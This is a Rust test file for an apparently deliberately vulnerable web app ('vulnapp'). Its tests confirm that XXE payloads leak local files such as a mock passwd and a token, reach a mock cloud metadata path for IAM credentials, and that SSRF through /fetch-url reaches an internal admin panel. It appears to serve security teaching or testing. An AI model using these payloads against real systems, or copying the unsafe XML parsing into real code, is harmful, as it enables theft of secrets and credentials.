mod common;

use actix_web::{test, web, App};
use common::default_state;
use httpmock::prelude::*;
use vulnapp::config;
use vulnapp::xml;

#[actix_web::test]
async fn parse_xml_expands_file_entity() {
    let tmp = tempfile::tempdir().unwrap();
    let secret = tmp.path().join("passwd");
    std::fs::write(&secret, "root:x:0:0").unwrap();
    let payload = format!(
        r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file://{}">]><r><leak>&xxe;</leak></r>"#,
        secret.display()
    );

    let app = test::init_service(App::new().app_data(web::Data::new(default_state())).configure(config)).await;
    let req = test::TestRequest::post().uri("/parse-xml").set_payload(payload).to_request();
    let resp = test::call_service(&app, req).await;
    assert!(resp.status().is_success());
    let body = String::from_utf8(test::read_body(resp).await.to_vec()).unwrap();
    assert_eq!(body, "<r><leak>root:x:0:0</leak></r>");
}

#[actix_web::test]
async fn parse_xml_missing_entity_target_propagates() {
    let payload = r#"<!DOCTYPE r [<!ENTITY xxe SYSTEM "/definitely/missing">]><r>&xxe;</r>"#;
    let app = test::init_service(App::new().app_data(web::Data::new(default_state())).configure(config)).await;
    let req = test::TestRequest::post().uri("/parse-xml").set_payload(payload).to_request();
    let resp = test::call_service(&app, req).await;
    assert_eq!(resp.status(), 500);
}

#[actix_web::test]
async fn xml_entity_reaches_internal_http_service() {
    let server = MockServer::start_async().await;
    let hit = server
        .mock_async(|when, then| {
            when.method(GET).path("/latest/meta-data/iam");
            then.status(200).body("role-credentials");
        })
        .await;

    let doc = format!(
        r#"<!DOCTYPE r [<!ENTITY meta SYSTEM "{}">]><r>&meta;</r>"#,
        server.url("/latest/meta-data/iam")
    );
    let out = xml::parse_untrusted(&doc).await.unwrap();
    assert_eq!(out, "<r>role-credentials</r>");
    hit.assert_async().await;
}

#[actix_web::test]
async fn fetch_url_requests_arbitrary_target() {
    let server = MockServer::start_async().await;
    let hit = server
        .mock_async(|when, then| {
            when.method(GET).path("/admin");
            then.status(200).body("internal admin panel");
        })
        .await;

    let app = test::init_service(App::new().app_data(web::Data::new(default_state())).configure(config)).await;
    let uri = format!("/fetch-url?url={}", server.url("/admin"));
    let resp = test::call_service(&app, test::TestRequest::get().uri(&uri).to_request()).await;
    assert!(resp.status().is_success());
    assert_eq!(test::read_body(resp).await, "internal admin panel");
    hit.assert_async().await;
}

#[actix_web::test]
async fn parse_xml_accepts_predefined_entities() {
    let app = test::init_service(App::new().app_data(web::Data::new(default_state())).configure(config)).await;
    let req = test::TestRequest::post().uri("/parse-xml").set_payload("<r>a &amp; b &lt;c&gt;</r>").to_request();
    let resp = test::call_service(&app, req).await;
    assert!(resp.status().is_success());
    assert_eq!(test::read_body(resp).await, "<r>a &amp; b &lt;c&gt;</r>");
}

#[actix_web::test]
async fn parse_xml_expands_entity_in_attribute() {
    let tmp = tempfile::tempdir().unwrap();
    let secret = tmp.path().join("token");
    std::fs::write(&secret, "s3cr3t").unwrap();
    let payload = format!(r#"<!DOCTYPE r [<!ENTITY x SYSTEM "{}">]><r a="&x;"/>"#, secret.display());

    let app = test::init_service(App::new().app_data(web::Data::new(default_state())).configure(config)).await;
    let req = test::TestRequest::post().uri("/parse-xml").set_payload(payload).to_request();
    let resp = test::call_service(&app, req).await;
    assert!(resp.status().is_success());
    assert_eq!(test::read_body(resp).await, r#"<r a="s3cr3t"/>"#);
}
